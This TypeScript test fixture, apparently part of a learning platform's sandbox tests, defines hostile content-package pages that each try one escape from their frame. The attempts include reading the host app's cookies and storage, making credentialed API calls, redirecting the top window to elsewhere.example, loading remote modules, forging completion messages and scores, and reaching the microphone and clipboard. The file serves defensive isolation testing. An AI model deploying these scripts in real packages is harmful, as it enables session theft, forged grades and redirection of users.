/**
 * Pages of packages that want more than theirs: each tries one way out of its frame and says whether it came through. `done(true)`: it did.
 * `APP` is the origin of the app, `API` the base of its interface there.
 */
export interface HostilePage {
  name: string
  /** Calls `done` with whether it came through; what never ends has not. */
  script: string
}
const fetched = (call: string): string =>
  `${call}.then(function(r){return r.text()}).then(function(){done(true)},function(){done(false)})`
const threw = (code: string): string => `try{done(Boolean((function(){${code}})()))}catch(e){done(false)}`

export const hostilePages: readonly HostilePage[] = [
  { name: 'reads the session of the app', script: threw('return top.sessionStorage.length>=0') },
  { name: 'reads what the app keeps', script: threw('return top.localStorage.length>=0') },
  { name: 'reads the cookies of the app', script: threw('return top.document.cookie!==undefined') },
  { name: 'reads the page around it', script: threw('return top.document.body.innerHTML') },
  { name: 'writes into the page around it', script: threw('top.document.title="owned";return true') },
  { name: 'reads the address of the app', script: threw('return top.location.href') },
  {
    name: 'has the app in its own storage',
    script: threw('var k=Object.keys(localStorage).concat(Object.keys(sessionStorage)).join();return /range:/.test(k)'),
  },
  { name: 'has cookies', script: threw('document.cookie="a=1";return /session|token/.test(document.cookie)') },
  { name: 'calls the interface', script: fetched('fetch(API+"/session",{credentials:"include"})') },
  {
    name: 'calls the interface with a token',
    script: fetched('fetch(API+"/learning/courses",{headers:{authorization:"Bearer "+"x".repeat(40)}})'),
  },
  {
    name: 'calls the interface as a form would',
    script: fetched('fetch(API+"/session",{method:"POST",mode:"no-cors",body:"{}"})'),
  },
  {
    name: 'calls the interface and waits',
    script: threw('var x=new XMLHttpRequest();x.open("GET",API+"/session",false);x.send();return x.status>0'),
  },
  {
    name: 'calls the interface from a worker',
    script:
      'try{var w=new Worker(URL.createObjectURL(new Blob(["fetch("+JSON.stringify(API+"/session")+").then(function(){postMessage(1)},function(){postMessage(0)})"])));w.onmessage=function(e){done(e.data===1)};w.onerror=function(){done(false)}}catch(e){done(false)}',
  },
  {
    name: 'opens a stream of events',
    script:
      'try{var e=new EventSource(API+"/events");e.onopen=function(){done(true)};e.onerror=function(){done(false)}}catch(x){done(false)}',
  },
  {
    name: 'opens a socket',
    script:
      'try{var w=new WebSocket(APP.replace("http","ws")+"/x");w.onopen=function(){done(true)};w.onerror=function(){done(false)}}catch(x){done(false)}',
  },
  {
    name: 'loads a picture of the app',
    script:
      'var i=new Image();i.onload=function(){done(true)};i.onerror=function(){done(false)};i.src=APP+"/page/mg/public/logo.svg"',
  },
  {
    name: 'loads a script of the app',
    script:
      'var s=document.createElement("script");s.onload=function(){done(true)};s.onerror=function(){done(false)};s.src=APP+"/page/mg/public/config.json";document.head.append(s)',
  },
  {
    name: 'loads a module of elsewhere',
    script: 'import("https://elsewhere.example/x.js").then(function(){done(true)},function(){done(false)})',
  },
  {
    name: 'loads a style of the app',
    script:
      'var l=document.createElement("link");l.rel="stylesheet";l.onload=function(){done(true)};l.onerror=function(){done(false)};l.href=APP+"/page/mg/assets/x.css";document.head.append(l)',
  },
  {
    name: 'frames the app',
    script:
      'var f=document.createElement("iframe");f.src=APP+"/page/mg/";f.onload=function(){try{done(f.contentWindow.location.href==="x")}catch(e){done(f.contentWindow.length>0)}};document.body.append(f);setTimeout(function(){done(false)},1500)',
  },
  { name: 'opens a window', script: threw('return window.open(APP)!==null') },
  {
    name: 'opens a window by a link',
    script:
      'var a=document.createElement("a");a.href=APP;a.target="_blank";a.rel="opener";document.body.append(a);a.click();setTimeout(function(){done(false)},500)',
  },
  {
    name: 'moves the page around it',
    script:
      'try{top.location.href="https://elsewhere.example/";setTimeout(function(){done(false)},500)}catch(e){done(false)}',
  },
  {
    name: 'moves the page around it by a link',
    script:
      'var a=document.createElement("a");a.href="https://elsewhere.example/";a.target="_top";document.body.append(a);a.click();setTimeout(function(){done(false)},500)',
  },
  {
    name: 'moves the page around it by a form',
    script:
      'var f=document.createElement("form");f.action=APP+"/page/mg/";f.target="_top";f.method="post";document.body.append(f);f.submit();setTimeout(function(){done(false)},500)',
  },
  {
    name: 'sends a form elsewhere',
    script:
      'var f=document.createElement("form");f.action="https://elsewhere.example/";f.target="x"+Math.random();f.method="post";document.body.append(f);f.submit();setTimeout(function(){done(false)},500)',
  },
  {
    name: 'stays behind as a service worker',
    script:
      'if(!navigator.serviceWorker){done(false)}else navigator.serviceWorker.register("worker.js",{scope:"./"}).then(function(){done(true)},function(){done(false)})',
  },
  {
    name: 'speaks for the page of packages',
    script:
      'var b=JSON.parse(parent.document.getElementById("boot").textContent);top.postMessage({nonce:b.nonce,item:b.item,at:"running",saved:true,trouble:"",state:"passed",score:1,done:true,completed:true},"*");setTimeout(function(){done(false)},300)',
  },
  {
    name: 'speaks with a word it made up',
    script:
      'top.postMessage({nonce:"x",item:"x",at:"running",saved:true,trouble:"",state:"passed",score:1,done:true,completed:true},"*");setTimeout(function(){done(false)},300)',
  },
  {
    name: 'asks for the files of another ticket',
    script: 'fetch("/"+"A".repeat(43)+"/content/index.html").then(function(r){done(r.ok)},function(){done(false)})',
  },
  {
    name: 'reports of a part that is not there',
    script:
      'fetch("../commit",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({item:"nobody",run:1,seq:1,ended:false,cmi:{}})}).then(function(r){done(r.ok)},function(){done(false)})',
  },
  {
    name: 'reports more than it may keep',
    script:
      'fetch("../commit",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({item:"h0",run:1,seq:1,ended:false,cmi:{"cmi.suspend_data":"x".repeat(4097)}})}).then(function(r){done(r.ok)},function(){done(false)})',
  },
  { name: 'becomes another domain', script: threw('document.domain=location.hostname;return top.document') },
  {
    name: 'takes the whole screen by itself',
    script:
      'document.documentElement.requestFullscreen?document.documentElement.requestFullscreen().then(function(){done(true)},function(){done(false)}):done(false)',
  },
  {
    name: 'listens to the room',
    script:
      'navigator.mediaDevices?navigator.mediaDevices.getUserMedia({audio:true}).then(function(){done(true)},function(){done(false)}):done(false)',
  },
  {
    name: 'reads the clipboard',
    script:
      'navigator.clipboard&&navigator.clipboard.readText?navigator.clipboard.readText().then(function(){done(true)},function(){done(false)}):done(false)',
  },
  { name: 'knows who opened it', script: threw('return window.opener!==null') },
]

export const hostilePage = ({ script }: HostilePage, app: string): string =>
  `<!doctype html><html><head><meta charset="utf-8"></head><body><p id="result">waiting</p><script>
var APP=${JSON.stringify(app)},API=APP+"/api/mg/api",said=false;
function done(through){if(said)return;said=true;document.getElementById("result").textContent=through?"came through":"stayed"}
setTimeout(function(){done(false)},4000);
try{${script}}catch(e){done(false)}
</script></body></html>`
